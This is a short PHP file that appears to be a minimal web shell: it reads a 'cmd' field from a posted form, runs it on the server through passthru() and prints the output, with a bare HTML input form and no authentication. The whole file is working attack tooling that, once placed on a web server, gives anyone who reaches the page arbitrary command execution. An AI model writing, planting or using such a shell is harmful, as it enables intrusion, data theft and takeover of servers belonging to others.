<?php
function run($c) { echo "<pre>"; passthru($c); echo "</pre>"; }
if (isset($_POST['cmd'])) run($_POST['cmd']);
?><form method=post><input name=cmd></form>
